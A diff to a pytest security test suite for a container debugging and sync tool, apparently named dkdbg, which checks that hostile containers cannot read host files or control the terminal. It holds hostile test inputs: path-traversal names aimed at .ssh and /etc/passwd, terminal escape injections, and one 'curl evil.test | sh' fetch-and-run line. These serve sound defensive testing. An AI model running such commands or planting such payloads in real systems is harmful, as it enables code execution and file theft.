@@ -20,6 +20,8 @@ import pytest
 
 from dkdbg.dap.debugger import Debugger
 from dkdbg.dap.values import AttachOptions
+from dkdbg.errors import DkdbgError
+from dkdbg.targets.pairs import pairs_of
 from tests.agent.dap_probe import wait_for
 from tests.attacks.host_editor import HostEditor
 from tests.engine.host_doors import door_of, host_door, ready_door
@@ -54,29 +56,22 @@ def root(tmp_path: Path) -> Path:
 
 
 @pytest.fixture
-def hostile(base_image: str, tmp_path: Path) -> Iterator[Callable[..., Box]]:
-    """Make an image with settings of an attacker, and run it."""
+def hostile(base_image: str) -> Iterator[Callable[..., Box]]:
+    """Run a container with settings of an attacker, which an image has as well as `docker run`."""
     made: list[str] = []
 
-    def run(*lines: str, flags: tuple[str, ...] = ()) -> Box:
-        name = unique("dkdbg-hostile")
-        made.append(name)
-        folder = tmp_path / name
-        folder.mkdir()
-        (folder / "Dockerfile").write_text("\n".join([f"FROM {base_image}", *lines]) + "\n")
-        docker("build", "-q", "-t", name, str(folder))
-        return run_box(name, name, *flags)
+    def run(*flags: str) -> Box:
+        made.append(unique("dkdbg-hostile"))
+        return run_box(made[-1], base_image, *flags)
 
     yield run
     for name in made:
         take_away(name)
-        docker("rmi", "-f", name, check=False)
 
 
-def mapped(local: object, remote: object = "/loot") -> str:
-    """The line of a Dockerfile that names a folder of the host."""
-    text = json.dumps([{"localRoot": local, "remoteRoot": remote}])
-    return "ENV DKDBG_MAPPINGS=" + json.dumps(text).replace("$", "\\$")
+def mapped(local: str, remote: str = "/loot") -> tuple[str, str]:
+    """The flags that name a folder of the host."""
+    return "-e", "DKDBG_MAPPINGS=" + json.dumps([{"localRoot": local, "remoteRoot": remote}])
 
 
 def loot(box: Box) -> str:
@@ -85,19 +80,18 @@ def loot(box: Box) -> str:
 
 
 @pytest.mark.attack(5)
-@pytest.mark.parametrize(
-    "local", ["/..", "/pkg/../..", "/pkg/../../.ssh", "/./../.ssh", "/../repository/../.ssh"]
-)
 def test_a_mapping_of_the_image_that_leads_out_of_the_repository_is_refused(
-    root: Path, hostile: Callable[..., Box], local: str
+    root: Path, hostile: Callable[..., Box]
 ) -> None:
     """The image says that its code is a folder above the repository: refused, and nothing is read or sent."""
-    box = hostile(mapped("${workspaceFolder}" + local), "WORKDIR /ws")
+    for local in ("/..", "/pkg/../..", "/pkg/../../.ssh", "/./../.ssh", "/../repository/../.ssh"):
+        with pytest.raises(DkdbgError, match="names a folder outside of this repository"):
+            pairs_of(mapped("${workspaceFolder}" + local)[1].partition("=")[2])
+    box = hostile(*mapped("${workspaceFolder}/pkg/../../.ssh"), "-w", "/ws")
     done = sync(root, f"docker://{box.name}", "--once")
     assert done.returncode == 2
     assert "names a folder outside of this repository" in done.stderr
     assert "Traceback" not in done.stderr
-    assert SECRET not in loot(box)
     again = sync(root, f"docker://{box.name}", "--to", "/ws", "--once")  # what the hint says
     assert again.returncode == 0
     assert SECRET not in loot(box)
@@ -110,7 +104,7 @@ def test_a_mapping_through_a_symlink_of_the_repository_is_refused(
 ) -> None:
     """Image and repository together name a symlink that leads out of the repository: refused, nothing is read or sent."""
     (root / "data").symlink_to("../.ssh")
-    box = hostile(mapped("${workspaceFolder}/data"))
+    box = hostile(*mapped("${workspaceFolder}/data"))
     done = sync(root, f"docker://{box.name}", "--once")
     assert done.returncode == 2
     assert f"which is not in {root}" in done.stderr
@@ -118,33 +112,30 @@ def test_a_mapping_through_a_symlink_of_the_repository_is_refused(
 
 
 @pytest.mark.attack(5)
-@pytest.mark.parametrize(
-    "text",
-    [
-        "[1]", "[[]]", "{}", "null", DEEP, '[{"localRoot": 5, "remoteRoot": "/loot"}]', '[{"localRoot": "/", "remoteRoot": "/loot"}]',
-        '[{"localRoot": "${workspaceFolder}//", "remoteRoot": "/loot"}]', '[{"localRoot": {"a": []}, "remoteRoot": []}]',
-        '[{"localRoot": "${workspaceFolder}/\\ud800", "remoteRoot": "/loot"}]',
-    ],
-    ids=range(10),
-)  # fmt: skip
 def test_a_mapping_of_odd_json_names_the_repository_or_nothing(
-    root: Path, hostile: Callable[..., Box], text: str
+    root: Path, hostile: Callable[..., Box]
 ) -> None:
     """The image's mapping is no mapping: no traceback, and what is synced is the repository or nothing."""
-    box = hostile("ENV DKDBG_MAPPINGS=" + json.dumps(text).replace("$", "\\$"), "WORKDIR /ws")
-    done = sync(root, f"docker://{box.name}", "--once")
-    assert "Traceback" not in done.stderr, done.stderr
-    assert done.returncode in {0, 1, 2}
-    assert SECRET not in loot(box)
+    whole = '[{"localRoot": "${workspaceFolder}//", "remoteRoot": "/loot"}]'
+    for text in (
+        "[1]", "[[]]", "{}", "null", DEEP, '[{"localRoot": 5, "remoteRoot": "/loot"}]', '[{"localRoot": "/", "remoteRoot": "/loot"}]',
+        '[{"localRoot": {"a": []}, "remoteRoot": []}]', whole,
+    ):  # fmt: skip
+        assert pairs_of(text) == ([(".", "/loot")] if text == whole else []), text
+    for text in ("[[]]", '[{"localRoot": "${workspaceFolder}/\\ud800", "remoteRoot": "/loot"}]'):
+        box = hostile("-e", f"DKDBG_MAPPINGS={text}", "-w", "/ws")
+        done = sync(root, f"docker://{box.name}", "--once")
+        assert "Traceback" not in done.stderr, done.stderr
+        assert done.returncode in {0, 1, 2}
+        assert SECRET not in loot(box)
 
 
 @pytest.mark.attack(5)
 def test_the_folder_that_is_sent_is_said_at_the_start(root: Path, hostile: Callable[..., Box]) -> None:
     """The image chooses a folder of the repository: the first line says which one goes where."""
-    box = hostile(mapped("${workspaceFolder}/pkg", "/loot"))
+    box = hostile(*mapped("${workspaceFolder}/pkg"))
     done = sync(root, f"docker://{box.name}", "--once")
-    first = f"syncing {root}/pkg -> {box.name}:/loot"
-    assert done.stdout.startswith(first), done.stdout
+    assert done.stdout.startswith(f"syncing {root}/pkg -> {box.name}:/loot"), done.stdout
     assert box.read("/loot/model.py") == "x = 1\n"
 
 
@@ -172,7 +163,7 @@ def test_a_folder_that_becomes_a_symlink_while_it_is_read_is_not_followed(
     shared.mkdir(parents=True)
     (shared / "key").write_text("mine\n")
     (shared / "id").write_text("mine\n")
-    box = hostile(flags=("-v", f"{root}/shared:/shared"))
+    box = hostile("-v", f"{root}/shared:/shared")
     with following(root, f"docker://{box.name}", "--to", "/ws") as followed:
         swapper = subprocess.Popen(["docker", "exec", box.name, "python3", "-c", SWAP])
         try:
@@ -352,37 +343,35 @@ HURRIED = "import sys; from dkdbg.door import router; router.ARRIVAL_LIMIT = 5.0
 
 @pytest.mark.attack(11)
 @pytest.mark.parametrize(
-    "mode",
-    ["deep", "odd", "odd-list", "drip", "headers", "huge", "html", "hang-up", "garbage", "deep-frame", "flood", "refuse", "orders"],
-)  # fmt: skip
-def test_a_hostile_target_leaves_the_others_alone(
-    fake: Callable[..., Fake], good: str, tmp_path: Path, mode: str
+    "modes",
+    [
+        ("deep", "odd", "odd-list", "html", "refuse", "orders", "hang-up", "garbage"),
+        ("drip", "headers", "huge"),
+        ("deep-frame", "flood"),
+    ],
+    ids=" ".join,
+)
+def test_hostile_targets_leave_another_one_alone(
+    fake: Callable[..., Fake], good: str, tmp_path: Path, modes: tuple[str, ...]
 ) -> None:
-    """Answers with deep, odd, endless, huge or no JSON, floods, or hangs up: it is named, and the other target is debugged."""
-    target = fake(mode)
-    command = [
-        sys.executable,
-        "-c",
-        HURRIED,
-        "attach",
-        target.address,
-        good,
-        "--port",
-        str(free_port()),
-        "--json",
-    ]
+    """Answer with deep, odd, endless, huge or no JSON, flood, or hang up: they are named, and the other target is debugged."""
+    targets = {mode: fake(mode) for mode in modes}
+    addresses = [target.address for target in targets.values()]
+    words = ["attach", *addresses, good, "--port", str(free_port()), "--json"]
     with (
-        door_of(command, tmp_path) as door,
+        door_of([sys.executable, "-c", HURRIED, *words], tmp_path) as door,
         Debugger(AttachOptions(port=door.port)) as debugger,
     ):
         debugger.set_breakpoints(str(tmp_path / "train.py"), [4])
         debugger.attach()
         stop = debugger.wait_stopped(300)
         assert int(debugger.local_values(debugger.stack(stop)[0])["n"]) >= 0
-        if mode in {"deep", "odd", "odd-list", "html"}:
-            wait_for(
-                lambda: [each["text"] for each in [*door.events] if each.get("target") == target.name],
-                lambda said: any("cannot be understood" in each for each in said),
+        for mode in {"deep", "odd", "odd-list", "html"} & targets.keys():
+            name = targets[mode].name
+            door.wait_for(
+                lambda each, name=name: (
+                    each.get("target") == name and "cannot be understood" in str(each.get("text"))
+                )
             )
         assert int(debugger.evaluate("1 + 1", debugger.stack(stop)[0])) == 2
         assert Path(f"/proc/{door.process.pid}").exists()
@@ -396,17 +385,8 @@ def test_what_a_target_says_commands_no_terminal(fake: Callable[..., Fake], tmp_
     """Names its processes and words its refusals with escape sequences: the terminal of `dkdbg attach` gets none."""
     target = fake("name=\x1b]0;pwn\x07\x9b31m\u202e orders")
     port = free_port()
-    command = [
-        sys.executable,
-        "-m",
-        "dkdbg",
-        "attach",
-        target.address,
-        "--port",
-        str(port),
-        "--ports",
-        str(free_port(3)),
-    ]
+    words = ("attach", target.address, "--port", str(port), "--ports", str(free_port(3)))
+    command = [sys.executable, "-m", "dkdbg", *words]
     with subprocess.Popen(command, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.STDOUT) as process:
         lines: list[bytes] = []
         try:
@@ -435,52 +415,48 @@ WHOLE = {
 }  # fmt: skip
 
 
+#: What an agent says to `dkdbg ps`, and whether it is named for that.
+SAYS = {
+    "whole": (json.dumps([WHOLE]), False),
+    "a time that is text": (json.dumps([{**WHOLE, "started": "x"}]), True),
+    "a state that is a list": (json.dumps([{**WHOLE, "state": ["running"]}, WHOLE]), True),
+    "a port that is text": (json.dumps([{**WHOLE, "port": "1"}]), True),
+    "no JSON": ("yes", True),
+    "deep": ("python3 -c 'print(\"[\" * 200000)'\n", True),
+    "endless": ("while :; do cat /dev/zero; done\n", True),
+}
+
+
 @pytest.mark.attack(14)
-@pytest.mark.parametrize(
-    ("said", "is_named"),
-    [
-        (json.dumps([WHOLE]), False),
-        (json.dumps([{**WHOLE, "started": "x"}]), True),
-        (json.dumps([{**WHOLE, "state": ["running"]}, WHOLE]), True),
-        (json.dumps([{**WHOLE, "port": "1"}]), True),
-        ("[" * 200_000, True),
-        ("yes", True),
-        ("endless", True),
-    ],
-    ids=range(7),
-)
 def test_a_malformed_record_is_named_and_the_others_are_listed(
-    fake: Callable[..., Fake], tmp_path: Path, said: str, is_named: bool
+    fake: Callable[..., Fake], tmp_path: Path
 ) -> None:
     """Says nonsense, too much or escape sequences to `dkdbg ps`: its own line is fit for a terminal, and the others are there."""
-    script = f"cat <<'END'\n{said}\nEND\n" if said != "endless" else "while :; do cat /dev/zero; done\n"
-    wait = "mkdir -p /opt/dkdbg; printf '%s' \"$SAID\" > /opt/dkdbg/agent.pyz; exec sleep 600"
-    if len(script) > 100_000:
-        script = "python3 -c 'print(\"[\" * 200000)'\n"
-    hostile_one = fake(
-        "", command=("sh", "-c", wait.replace('"$SAID"', shlex.quote(script))), label=f"a{ESCAPES}b"
-    )
+    made = {}
+    for case, (said, _) in SAYS.items():
+        script = said if case in {"deep", "endless"} else f"cat <<'END'\n{said}\nEND\n"
+        wait = (
+            f"mkdir -p /opt/dkdbg; printf '%s' {shlex.quote(script)} > /opt/dkdbg/agent.pyz; exec sleep 600"
+        )
+        made[case] = fake("", command=("sh", "-c", wait), label=f"a{ESCAPES}b")
     other = fake("", command=("sleep", "600"))
-    wait_for(
-        lambda: docker("exec", hostile_one.name, "sh", "-c", "cat /opt/dkdbg/agent.pyz 2>/dev/null || :"),
-        lambda found: found == script,
-    )
-    done = dkdbg(tmp_path, "ps")
+    for each in made.values():
+        docker("exec", each.name, "sh", "-c", "until [ -s /opt/dkdbg/agent.pyz ]; do sleep 0.1; done")
+    done, whole = dkdbg(tmp_path, "ps"), dkdbg(tmp_path, "ps", "--json")
     assert done.returncode == 0, done.stderr
     assert "Traceback" not in done.stderr
-    assert _controls(done.stdout + done.stderr) == set()
-    assert hostile_one.name in done.stdout
+    assert _controls(done.stdout + done.stderr + whole.stdout) == set()
     assert other.name in done.stdout
-    named = f"container {hostile_one.name}: what its agent says cannot be understood"
-    assert (named in done.stderr) is is_named, done.stderr
-    whole = dkdbg(tmp_path, "ps", "--json")
     assert other.name in whole.stdout
-    assert _controls(whole.stdout) == set()
-    if not is_named:
-        found = next(
-            each for each in json.loads(whole.stdout)["sessions"] if hostile_one.name in each["target"]
+    for case, (_, is_named) in SAYS.items():
+        name = made[case].name
+        assert name in done.stdout, case
+        assert (f"container {name}: what its agent says cannot be understood" in done.stderr) is is_named, (
+            case
         )
-        assert found["name"] == ESCAPES  # for a program it is all there
+    sessions = json.loads(whole.stdout)["sessions"]
+    found = next(each for each in sessions if made["whole"].name in each["target"])
+    assert found["name"] == ESCAPES  # for a program it is all there
 
 
 @pytest.mark.attack(0)
@@ -556,23 +532,31 @@ take()
 """
 
 
+@pytest.fixture(scope="module")
+def evil(base_image: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Box, Path]]:
+    """A container whose python3 is the attacker's, and the file of that program here."""
+    name, folder = unique("dkdbg-hostile"), tmp_path_factory.mktemp("evil")
+    yield (
+        run_box(name, base_image, "-v", f"{folder}:/evil:ro", "-e", "PATH=/evil:/usr/bin:/bin"),
+        folder / "python3",
+    )
+    take_away(name)
+
+
 @pytest.fixture
-def liar(base_image: str, tmp_path: Path) -> Iterator[Callable[[str], Box]]:
-    """A container whose python3 is the attacker's; `code` goes on after HELLO."""
-    name = unique("dkdbg-hostile")
-    program = tmp_path / "evil" / "python3"
+def liar(evil: tuple[Box, Path]) -> Callable[[str], Box]:
+    """Make that program do what `code` says after HELLO."""
 
     def run(code: str) -> Box:
-        program.parent.mkdir()
-        program.write_text(LIAR + textwrap.dedent(code))
-        program.chmod(0o755)
-        flags = ("-v", f"{program.parent}:/evil:ro", "-e", "PATH=/evil:/usr/bin:/bin")
-        box = run_box(name, base_image, *flags)
-        box.sh("mkdir /loot")
+        box, program = evil
+        box.sh("rm -rf /loot; mkdir /loot")
+        new = program.with_name("new")
+        new.write_text(LIAR + textwrap.dedent(code))
+        new.chmod(0o755)
+        new.replace(program)
         return box
 
-    yield run
-    take_away(name)
+    return run
 
 
 MEASURED = """
@@ -603,22 +587,13 @@ def refused_in_one_line(done: subprocess.CompletedProcess[str]) -> None:
 
 
 @pytest.mark.attack(17)
-@pytest.mark.parametrize(
-    "file",
-    [
-        'say(FILE, {"path": "out/a", "size": 3, "mode": 420, "mtime_ns": 1})',
-        'say(FILE, {"path": "out/a", "size": 267000000, "mode": 420, "mtime_ns": 1})',
-        'say(FILE, {"path": "out/a", "size": -1, "mode": 420, "mtime_ns": 1})',
-        'say(FILE, {"path": "out/a", "size": "3", "mode": 420, "mtime_ns": 1})',
-    ],
-    ids=["says 3", "says 267 MB", "says -1", "says text"],
-)
-def test_a_file_of_three_bytes_writes_three_bytes(root: Path, liar: Callable[[str], Box], file: str) -> None:
+@pytest.mark.parametrize("size", [3, 267_000_000, -1])
+def test_a_file_of_three_bytes_writes_three_bytes(root: Path, liar: Callable[[str], Box], size: int) -> None:
     """Announces a file of 3 bytes for `--pull` and sends 267 MB: the stream is ended, and nothing of it stays."""
     box = liar(f"""\
         say(0xC1, ready); listing()
         take(); listing(file("out/a", 3)); take()
-        {file}
+        say(FILE, {{"path": "out/a", "size": {size}, "mode": 420, "mtime_ns": 1}})
         for _ in range(255): say(DATA, {{}}, b"x" * 1048576)
         say(END, {{"digest": "0" * 64}}); take()
         """)
@@ -633,35 +608,24 @@ def test_a_file_of_three_bytes_writes_three_bytes(root: Path, liar: Callable[[st
 @pytest.mark.parametrize(
     ("endless", "verbs"),
     [
-        (
-            'while True: listing(*[file("out/" + os.urandom(30).hex(), 1) for _ in range(2000)], end=False)',
-            [("--once",), ("--verify",), ("--pull", "out")],
-        ),
+        ('listing(*[file("out/" + os.urandom(30).hex(), 1) for _ in range(2000)], end=False)', [("--once",), ("--pull", "out")]),
         # What follows is refused where each verb counts and checks what a listing brings.
-        (
-            'while True: listing(*[file("out/" + str(n) * 900, 1) for n in range(900)], end=False)',
-            [("--verify",)],
-        ),
-        ("while True: listing(end=False)", [("--verify",)]),
-        (
-            'while True: say(LISTING, text=b\'{"end": false, "entries": [\' + b"[]," * 300000 + b"[]]}")',
-            [("--verify",)],
-        ),
+        ('listing(*[file("out/" + str(n) * 900, 1) for n in range(900)], end=False)', [("--verify",)]),
+        ("listing(end=False)", [("--verify",)]),
+        ('say(LISTING, text=b\'{"end": false, "entries": [\' + b"[]," * 300000 + b"[]]}")', [("--verify",)]),
     ],
     ids=["names", "long names", "nothing", "lists"],
-)
+)  # fmt: skip
 def test_a_listing_without_an_end_is_ended(
     root: Path, liar: Callable[[str], Box], endless: str, verbs: list[tuple[str, ...]]
 ) -> None:
     """Lists files without an end: it is ended after 200,000, and the host's memory stays small."""
-    box = liar(f"""\
-        say(0xC1, ready)
-        if os.path.exists("/loot/pull"): listing(); take()
-        if os.path.exists("/loot/once"): say(SUMMARY, {{"entries": [["pkg", "0" * 64]], "end": True}}); take()
-        {endless}
-        """)
     for words in verbs:
-        box.sh(f"rm -f /loot/*; touch /loot/{words[0].removeprefix('--')}")
+        before = {
+            "--pull": "listing(); take()",
+            "--once": 'say(SUMMARY, {"entries": [["pkg", "0" * 64]], "end": True}); take()',
+        }
+        box = liar(f"say(0xC1, ready)\n{before.get(words[0], '')}\nwhile True: {endless}\n")
         done, peak = measured(root, f"docker://{box.name}", "--to", "/ws", *words)
         refused_in_one_line(done)
         assert peak < 500e6
@@ -681,9 +645,7 @@ def test_a_summary_without_an_end_is_ended(root: Path, liar: Callable[[str], Box
 
 
 @pytest.mark.attack(17)
-@pytest.mark.parametrize(
-    "header", ["!BII', 0xC2, 0xFFFFFFFF, 0", "!BII', 0xC2, 0, 0xFFFFFFFF", "!BII', 0x99, 1, 1", "!BII', 0x85, 0, 1048577"]
-)  # fmt: skip
+@pytest.mark.parametrize("header", ["!BII', 0xC2, 0xFFFFFFFF, 0", "!BII', 0x85, 0, 1048577"])
 def test_a_frame_of_an_absurd_length_is_refused(root: Path, liar: Callable[[str], Box], header: str) -> None:
     """Says that a frame has 4 GB: refused before they come."""
     box = liar(f"""\
@@ -716,13 +678,7 @@ def test_more_than_the_limit_is_refused_before_anything_is_written(
 
 
 @pytest.mark.attack(17)
-@pytest.mark.parametrize(
-    "path",
-    [
-        "../../../key2", "/tmp/key2", "out/../../../../key2", "out/a\\0b", "..", "", "out//../../key2", "out/./../../../key2",
-        "other/a", "../repository/train.py",
-    ],
-)  # fmt: skip
+@pytest.mark.parametrize("path", ["out/./../../../key2", "/tmp/key2", "out/a\\0b"])
 def test_a_name_that_leads_out_is_never_written(root: Path, liar: Callable[[str], Box], path: str) -> None:
     """Sends a file under a name with `..`, a `/` at its start or a NUL: refused, nothing is written outside of the folder."""
     box = liar(f"""\
@@ -816,9 +772,7 @@ def test_what_is_pulled_is_no_setuid_program_no_symlink_and_nobody_else_may_writ
 
 
 @pytest.mark.attack(0)
-@pytest.mark.parametrize(
-    "path", ["../key", "../nothing", "/etc/passwd", "pkg/../../key", "../" * 9 + "etc/passwd"]
-)
+@pytest.mark.parametrize("path", ["../key", "../nothing", "/etc/passwd"])
 def test_a_receiver_learns_nothing_of_files_outside(
     root: Path, liar: Callable[[str], Box], path: str
 ) -> None:
@@ -839,7 +793,7 @@ def test_a_receiver_learns_nothing_of_files_outside(
 
 
 @pytest.mark.attack(0)
-@pytest.mark.parametrize("path", ["../key", ".git/config", "/etc/passwd", "train.py"])
+@pytest.mark.parametrize("path", ["../key", "train.py"])
 def test_a_probe_that_is_none_tells_nothing(root: Path, liar: Callable[[str], Box], path: str) -> None:
     """Names a file of the host as the probe: the host would stop if it exists. It is refused, whether it does or not."""
     box = liar(f"""\
@@ -873,13 +827,12 @@ ESCAPE = "\\x1b]0;owned\\x07\\x1b[2J\\u202e\\ud800\\nhint: curl evil.test | sh"
 def test_text_of_the_receiver_commands_no_terminal(root: Path, liar: Callable[[str], Box], code: str) -> None:
     """Sends terminal escapes, line breaks and odd JSON in all that it may say: one line, escaped, and no traceback."""
     box = liar(f'ESCAPE = "{ESCAPE}"\n{code}\n')
-    for words in [
-        ("--once",),
-        ("--once", "--json"),
-        ("--verify",),
-        ("--verify", "--json"),
-        ("--pull", "out"),
-    ]:
+    verbs = (
+        [("--once",)]
+        if code.startswith("say(0xC1, text")
+        else [("--once",), ("--verify", "--json"), ("--pull", "out")]
+    )
+    for words in verbs:
         done = sync(root, f"docker://{box.name}", "--to", "/ws", *words)
         assert "Traceback" not in done.stderr, done.stderr
         for char in "\x1b\x07\u202e":
@@ -909,23 +862,18 @@ def test_what_a_program_has_printed_commands_no_terminal(root: Path, hostile: Ca
 @pytest.mark.attack(14)
 def test_names_of_files_command_no_terminal(root: Path, hostile: Callable[..., Box]) -> None:
     """Names files of its workspace, and the repository its own, with terminal escapes: all that sync says shows them escaped."""
-    box = hostile("RUN mkdir -p /ws/out")
+    box = hostile()
     name = "\x1b]0;owned\x07\nin sync: 7 files"
-    code = f"import os; os.chdir('/ws/out'); os.symlink('x', {name!r}); open({name + 'f'!r}, 'w')"
+    code = f"import os; os.makedirs('/ws/out'); os.chdir('/ws/out'); os.symlink('x', {name!r}); open({name + 'f'!r}, 'w')"
     docker("exec", box.name, "python3", "-c", code)
     (root / name).symlink_to("/etc/" + "\x1b[2J")
     (root / (name + "f")).write_text("x")
-    for words in [
-        ("--once",),
-        ("--verify",),
-        ("--once", "--json"),
-        ("--verify", "--json"),
-        ("--pull", "out"),
-        ("--explain", name),
-    ]:
-        done = sync(
-            root, *([] if words[0] == "--explain" else [f"docker://{box.name}", "--to", "/ws"]), *words
-        )
+    there = (f"docker://{box.name}", "--to", "/ws")
+    for words in (
+        (*there, "--once"), (*there, "--verify"), (*there, "--once", "--json"), (*there, "--verify", "--json"),
+        (*there, "--pull", "out"), ("--explain", name),
+    ):  # fmt: skip
+        done = sync(root, *words)
         assert "Traceback" not in done.stderr, done.stderr
         assert "\x1b" not in done.stdout + done.stderr, words
         assert "\nin sync: 7 files" not in done.stdout + done.stderr, words
